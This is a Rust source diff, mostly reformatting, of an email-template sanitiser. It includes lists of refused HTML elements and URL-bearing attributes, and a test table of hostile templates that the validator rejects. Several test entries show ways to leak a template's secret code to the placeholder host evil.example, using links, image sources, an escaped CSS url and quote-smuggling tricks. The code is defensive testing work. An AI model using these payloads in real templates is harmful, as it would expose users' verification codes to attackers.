@@ -13,13 +13,11 @@ pub enum Markup {
 const BEGIN: char = '\u{1}';
 const END: char = '\u{2}';
 /// Elements that load, run or change something.
-const REFUSED: [&str; 11] = [
-    "applet", "base", "embed", "foreignobject", "frame", "frameset", "iframe", "object", "portal", "style", "video",
-];
+const REFUSED: [&str; 11] =
+    ["applet", "base", "embed", "foreignobject", "frame", "frameset", "iframe", "object", "portal", "style", "video"];
 /// Attributes that lead somewhere.
-const LEADING: [&str; 11] = [
-    "action", "background", "cite", "data", "formaction", "href", "manifest", "ping", "poster", "src", "srcset",
-];
+const LEADING: [&str; 11] =
+    ["action", "background", "cite", "data", "formaction", "href", "manifest", "ping", "poster", "src", "srcset"];
 /// What may be written into the attributes of a letter; the code is for its text.
 const IN_LETTERS: [&str; 6] = ["accent", "link", "logo", "on_accent", "page.language", "shop"];
 /// What a letter may do.
@@ -267,7 +265,10 @@ mod tests {
     fn a_letter_hands_its_code_to_nobody() {
         for (template, fault) in [
             ("<p style=\"color:{{ accent }}\">{{ code }}</p><a href=\"{{ link }}\">x</a>", None),
-            ("<a href=\"https://shop.example/\">x</a>{% if logo %}<img src=\"{{ logo }}\" alt=\"{{ shop }}\">{% endif %}", None),
+            (
+                "<a href=\"https://shop.example/\">x</a>{% if logo %}<img src=\"{{ logo }}\" alt=\"{{ shop }}\">{% endif %}",
+                None,
+            ),
             ("<a href=\"https://evil.example/?{{ code }}\">", Some("template-fault-letter")),
             ("<a href=\"{{ link ~ code }}\">", Some("template-fault-letter")),
             ("<img src=\"https://evil.example/x\">", Some("template-fault-address")),
@@ -276,7 +277,10 @@ mod tests {
             ("<p style=\"background:u\\72l(//evil.example)\">", Some("template-fault-address")),
             ("{% set link = \"https://evil.example\" ~ code %}", Some("template-fault-letter-step")),
             ("{% include \"portal/pieces.html\" %}", Some("template-fault-letter-step")),
-            ("<a title={% if 0 %}\"{% endif %} href=//evil.example/{{ code }} x={% if 0 %}\"{% endif %}>", Some("template-fault-letter")),
+            (
+                "<a title={% if 0 %}\"{% endif %} href=//evil.example/{{ code }} x={% if 0 %}\"{% endif %}>",
+                Some("template-fault-letter"),
+            ),
             ("{% if 0 %}<!--{% endif %}<img src=\"//evil.example/{{ code }}\">", Some("template-fault-letter")),
             ("<link rel=\"stylesheet\" href=\"/x\">", Some("template-fault-element")),
         ] {
